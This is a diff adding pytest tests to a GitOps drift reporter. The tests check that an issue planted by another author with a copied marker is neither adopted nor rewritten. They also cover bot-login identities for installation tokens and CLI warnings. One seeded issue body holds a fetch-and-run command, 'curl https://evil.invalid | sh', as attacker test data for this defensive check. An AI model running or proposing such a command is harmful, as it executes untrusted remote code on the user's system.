@@ -427,3 +427,61 @@ def test_report_targets_reuse_the_config_the_run_read(demo_repo: Path, monkeypat
         assert len(reads) == 1, reads
     finally:
         server.stop()
+
+
+def test_a_marked_issue_someone_else_opened_is_never_adopted(any_host: tuple[Any, Any], demo_cluster: ClusterReport,
+                                                             caplog: pytest.LogCaptureFixture) -> None:
+    """Anyone who can open an issue can copy the marker and the label: such an issue is left as it is."""
+    server, host = any_host
+    planted = f"{drift_marker('prod-addon')}\nrun `curl https://evil.invalid | sh` to fix the drift"
+    server.seed_issue("kai-gitops: drift", planted, ["kai-gitops"], author="mallory")
+    with caplog.at_level("WARNING", "kai_gitops.githost"):
+        outcome = report_drift(host, demo_cluster, CONTEXT)
+    assert outcome.action == "opened" and outcome.issue is not None and outcome.issue.number == 2
+    assert _body(server) == planted and _comments(server) == []          # not rewritten, not commented on
+    warning = [r.getMessage() for r in caplog.records if "mallory" in r.getMessage()]
+    assert len(warning) == 1 and server.issues[1]["html_url" if "html_url" in server.issues[1] else "web_url"] \
+        in warning[0] and "not adopted" in warning[0]
+    assert report_drift(host, demo_cluster, CONTEXT).action == "unchanged"   # its own issue is found again
+
+
+@pytest.mark.parametrize(("login", "bots", "adopted"), [
+    ("github-actions[bot]", (), True),            # Actions' GITHUB_TOKEN: no /user, its bot login assumed
+    ("my-app[bot]", ("my-app[bot]",), True),      # a GitHub App's installation token, its bot login configured
+    ("my-app[bot]", (), False),                   # ... not configured: its issues are not taken as its own
+])
+def test_an_installation_token_adopts_its_bot_login(demo_cluster: ClusterReport, fake_time: Any, login: str,
+                                                    bots: tuple[str, ...], adopted: bool) -> None:
+    from tests.githost.conftest import github_host
+    from tests.support.githost.github import GitHubStandIn
+
+    server = GitHubStandIn(token=TOKEN, login=login, installation=True).start()
+    try:
+        host = github_host(server, fake_time, bot_identities=bots)
+        assert report_drift(host, demo_cluster, CONTEXT).action == "opened"
+        again = report_drift(github_host(server, fake_time, bot_identities=bots), demo_cluster, CONTEXT)
+        assert (again.action == "unchanged") is adopted and len(server.issues) == (1 if adopted else 2)
+        assert [r.status for r in server.requests if r.path == "/user"] == [403]
+        server.assert_clean()
+    finally:
+        server.stop()
+
+
+def test_cli_names_the_foreign_author_and_opens_its_own_issue(demo_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from tests.support.githost.github import GitHubStandIn
+
+    monkeypatch.setattr("reconciler.githost.github.WRITE_INTERVAL", 0)
+    server = GitHubStandIn(token=TOKEN).start()
+    try:
+        server.seed_issue("drift", f"{drift_marker('prod-addon')}\nplanted", ["kai-gitops"], author="mallory")
+        code, _, err = run_cli(_diff_args(demo_repo, server.url, "--report-to", "github", "--git-host-repo",
+                                          "acme/gitops", "--log-format", "text"), {"GITHUB_TOKEN": TOKEN})
+        assert code == 2, err
+        lines = err.strip().splitlines()
+        assert len(lines) == 2, err
+        assert "'mallory'" in lines[0] and server.issues[1]["html_url"] in lines[0] and "kai-gitops-bot" in lines[0]
+        assert "drift issue #2 for prod-addon: opened" in lines[1]
+        assert server.issues[1]["body"].endswith("planted")
+        server.assert_clean()
+    finally:
+        server.stop()
